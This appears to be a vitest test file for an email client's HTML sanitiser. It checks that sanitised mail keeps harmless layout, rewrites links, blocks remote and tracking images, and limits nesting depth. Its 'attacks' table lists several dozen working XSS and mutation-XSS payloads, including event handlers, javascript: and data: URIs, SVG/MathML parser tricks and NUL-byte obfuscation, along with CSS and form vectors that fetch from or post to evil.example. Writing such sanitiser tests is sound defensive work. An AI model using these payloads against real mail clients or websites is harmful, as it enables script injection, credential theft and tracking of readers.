// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { allowedElements } from "~/channels/email/parse/html/allowed";
import { sanitiseHtml } from "~/channels/email/parse/html/sanitise";
import { makePause } from "~/channels/email/parse/pause";

const clean = async (html: string, most?: number) => (await sanitiseHtml(html, makePause(), most)).html;

const allowedAttributes =
  /^(style|dir|lang|title|align|valign|width|height|bgcolor|colspan|rowspan|nowrap|scope|span|color|face|size|noshade|alt|border|hspace|vspace|value|type|start|reversed|cellpadding|cellspacing|href|target|rel|src|data-blocked-src|referrerpolicy)$/;

/** What a browser makes of it, twice: what was written must mean the same when it is written again. */
function harm(html: string): string[] {
  const found: string[] = [];
  const frame = document.implementation.createHTMLDocument().createElement("div");
  for (let round = 0, markup = html; round < 3; round += 1) {
    frame.innerHTML = markup;
    for (const element of frame.querySelectorAll("*")) {
      if (!allowedElements.has(element.localName)) found.push(`<${element.localName}>`);
      if (element.namespaceURI !== "http://www.w3.org/1999/xhtml")
        found.push(`${element.localName} of ${element.namespaceURI}`);
      for (const { name, value } of element.attributes) {
        if (!allowedAttributes.test(name)) found.push(`${element.localName}@${name}`);
        if (name === "href" && !/^(https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href=${value}`);
        if (name === "src" && !/^(cid:|data:image\/(png|jpe?g|gif|webp);)/i.test(value)) found.push(`src=${value}`);
        if (name === "style" && /url|expression|position|@|\\|\/\*/i.test(value)) found.push(`style=${value}`);
      }
    }
    markup = frame.innerHTML;
  }
  return found;
}

/** Every one of these ran a script, fetched something or broke out of its place somewhere. */
const attacks: Record<string, string> = {
  script: "<script>alert(1)</script><scr<script>ipt>alert(1)</scr</script>ipt>",
  "script in odd clothes": "<ScRiPt/x>alert(1)</sCrIpT ><script\n>alert(1)</script\t>",
  "event handlers": `<img src=x onerror=alert(1)><b onclick="alert(1)" OnMouseOver='alert(1)'>x</b><p/onload=alert(1)//>`,
  "javascript in links": `<a href="javascript:alert(1)">a</a><a href=" jAvAsCrIpT&colon;alert(1)">b</a><a href="java&#x0A;script:alert(1)">c</a><a href="&#1;javascript:alert(1)">d</a><a href="java\u200bscript:alert(1)">e</a>`,
  "other schemes": `<a href="data:text/html,<script>alert(1)</script>">a</a><a href="vbscript:x">b</a><a href="file:///etc/passwd">c</a><a href="blob:https://x">d</a><a href="/inside">e</a><a href="#x">f</a>`,
  SVG: `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1)></svg>`,
  "MathML with style (mXSS)": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  "MathML with an annotation": `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  "noscript (mXSS)": `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  "style with a comment (mXSS)": `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  "title, textarea, xmp, noembed, noframes": `<title><img title="</title><img src=x onerror=alert(1)>"></title><textarea></p><xmp></textarea><img src=x onerror=alert(1)></xmp><noembed><img title="</noembed><script>x</script>">`,
  template: `<template><script>alert(1)</script></template><template shadowrootmode=open><slot></slot><script>1</script>`,
  plaintext: `<p>a<plaintext><script>alert(1)</script>`,
  "iframe and srcdoc": `<iframe srcdoc="<script>alert(1)</script>"></iframe><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
  "object, embed, applet": `<object data="javascript:alert(1)"><embed src="javascript:alert(1)"><applet code=x></applet></object>`,
  forms: `<form action="https://evil.example" id=f><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form><isindex type=image src=1 onerror=alert(1)>`,
  "base, link, meta": `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  "style element with @import": `<style>@import url(//evil.example/x.css); body{background:url(//evil.example/p)}</style>`,
  "url in styles": `<p style="background:url(https://evil.example/p)">a</p><p style="background-image:u\\72l(//x)">b</p><p style="color:red;background:image-set('x' 1x)">c</p><p style="width:expression(alert(1))">d</p><p style="background:/**/url(x)">e</p>`,
  "styles that leave their place": `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">a</div><div style="margin-top:-500px">b</div><div style="transform:translate(-9px)">c</div>`,
  "remote pictures by other ways": `<img srcset="https://evil.example/p 1x"><picture><source srcset="https://evil.example/p"><img src=x></picture><table background="https://evil.example/p"><td background=//x></table><video poster="https://evil.example/p"></video><input type=image src="https://evil.example/p"><body background="https://evil.example/p">`,
  "quotes and angles in attributes": `<img alt="&quot;><script>alert(1)</script>" src="cid:x"><p title='"><img src=x onerror=alert(1)>'>x</p><a href='https://x.example/"onmouseover="alert(1)'>x</a>`,
  backticks: "<img alt=`><img src=x onerror=alert(1)> src=cid:x><p title=`onmouseover=alert(1)`>x</p>",
  comments: `<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)><!--[if mso]><script>x</script><![endif]--><![if !mso]><b>y</b><![endif]>`,
  "CDATA and processing": `<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY y "z">]>`,
  "names that were meant for objects": `<img name=body><form name=getElementById></form><p id=__proto__ class=constructor constructor=x __proto__=y toString=z>x</p><constructor>x</constructor><__proto__>`,
  "half tags": `<img src="cid:x" alt="<p><script>alert(1)</script>`,
  "NULs in tags": "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x\0onerror=alert(1)><a href='java\0script:alert(1)'>x</a>",
  "tables that foster": `<table><td><table><a href="https://x.example"><tr><a><b></table><script>x</script></b>`,
  "a picture that is a document": `<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/png;base64,AAAA" onload=x>`,
  "portal, dialog, details, marquee": `<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee><dialog open>y</dialog><portal src=x>`,
};

describe("what a mail's HTML may not do", () => {
  it.each(Object.entries(attacks))("%s", async (_name, html) => {
    expect(harm(await clean(html))).toEqual([]);
    expect(harm(await clean(`<table><tr><td><b>${html}`))).toEqual([]);
    expect(harm(await clean(`<p title="${html}">${html}`))).toEqual([]);
  });

  it("is tested by a check that finds harm", () => {
    expect(harm(`<img src=x onerror=y><svg></svg><a href="javascript:x">`)).not.toEqual([]);
  });

  it("has words of a script nowhere", async () => {
    expect(await clean("a<script>alert(1)</script><style>b{}</style><title>t</title>c")).toBe("ac");
  });
});

describe("links", () => {
  it.each([
    ["https://x.example/a?b=1&amp;c=2", "https://x.example/a?b=1&amp;c=2"],
    ["//x.example", "https://x.example/"],
    [" https://x.exa\nmple/ ", "https://x.example/"],
    ["https://bank.example@evil.example/", "https://evil.example/"],
    ["mailto:jane@x.example?subject=a b", "mailto:jane@x.example?subject=a b"],
    ["tel:+49 30 1234", "tel:+49301234"],
  ])("%s leads to %s", async (href, expected) => {
    expect(await clean(`<a href="${href}">x</a>`)).toBe(
      `<a href="${expected}" target="_blank" rel="noopener noreferrer nofollow">x</a>`,
    );
  });
});

describe("pictures", () => {
  it("on the web wait until they are asked for", async () => {
    const result = await sanitiseHtml('<img src="http://x.example/a.png" alt="A &quot;b&quot;" width=20>', makePause());
    expect(result.html).toBe(
      '<img data-blocked-src="http://x.example/a.png" referrerpolicy="no-referrer" alt="A &quot;b&quot;" width="20">',
    );
    expect(result.hasRemoteImages).toBe(true);
  });

  it("of one dot, which tell when a mail is read, are left out", async () => {
    const result = await sanitiseHtml(
      'a<img src="http://x.example/o.gif" width="1" height="1"><img src="http://x.example/p" style="width:1px;height:1px">',
      makePause(),
    );
    expect([result.html, result.hasRemoteImages]).toEqual(["a", false]);
  });

  it("that are attached are named by their id", async () => {
    const result = await sanitiseHtml('<img src="cid:a%20b&quot;@x">', makePause());
    expect(result.html).toBe('<img src="cid:a%20b%22%40x">');
    expect([...result.contentIds]).toEqual(['a b"@x']);
  });

  it("that stand in the HTML stay", async () => {
    expect(await clean('<img src="data:image/png;base64,AAAA">')).toBe('<img src="data:image/png;base64,AAAA">');
  });
});

describe("what stays", () => {
  it("is layout, with its harmless style", async () => {
    expect(
      await clean(
        '<TABLE width="100%" bgcolor=#FFF><TR><TD style="color: RED; position:fixed; padding:1px 2px" colspan=2>a &amp; b',
      ),
    ).toBe(
      '<table width="100%" bgcolor="#fff"><tr><td style="color:red;padding:1px 2px" colspan="2">a &amp; b</td></tr></table>',
    );
  });

  it("are the words of elements that are not known", async () => {
    expect(await clean("<o:p>a</o:p><form>b<button>c</button></form><center>d</center>")).toBe("abc<center>d</center>");
  });

  it("is closed in the right order", async () => {
    expect(await clean("<b><i>a</b>b</i><p>c<p>d<li>e<li>f</ul>")).toBe(
      "<b><i>a</i></b>b<p>c</p><p>d<li>e</li><li>f</li></p>",
    );
  });

  it("is not ended by an end tag that belongs elsewhere", async () => {
    expect(await clean("<div><table><tr><td>a</div>b</td></tr></table>c</div>")).toBe(
      "<div><table><tr><td>ab</td></tr></table>c</div>",
    );
  });

  it("is cut where it is too long, and still closed", async () => {
    const result = await sanitiseHtml(`<div>${"<p>words</p>".repeat(100)}</div>`, makePause(), 200);
    expect(result.isCut).toBe(true);
    expect(result.html.length).toBeLessThan(240);
    expect(result.html.endsWith("</div>")).toBe(true);
  });

  it("is never deeper than browsers like", async () => {
    expect((await clean(`${"<div>".repeat(100_000)}x`)).match(/<div>/g)).toHaveLength(100);
  });
});
